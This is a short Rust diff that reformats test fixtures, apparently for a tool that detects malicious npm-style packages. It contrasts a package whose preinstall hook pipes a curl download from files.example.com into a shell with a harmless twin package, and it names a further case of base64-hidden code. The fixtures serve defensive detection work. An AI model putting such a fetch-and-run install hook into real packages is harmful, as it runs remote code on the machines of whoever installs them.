@@ -26,8 +26,12 @@ pub(crate) fn publish(upstream: &Upstream) -> Shapes {
     );
     shapes.add(
         "a preinstall script pipes a download into a shell",
-        put(package("shape-pipe").script("preinstall", "curl -fsSL https://files.example.com/i.sh | sh").file("index.js", "module.exports = 1;\n")),
-        put(package("twin-message").script("postinstall", "node -e \"console.log('thank you for installing')\"").file("index.js", "module.exports = 1;\n")),
+        put(package("shape-pipe")
+            .script("preinstall", "curl -fsSL https://files.example.com/i.sh | sh")
+            .file("index.js", "module.exports = 1;\n")),
+        put(package("twin-message")
+            .script("postinstall", "node -e \"console.log('thank you for installing')\"")
+            .file("index.js", "module.exports = 1;\n")),
     );
     shapes.add(
         "code hidden in base64 is run when the package is loaded",
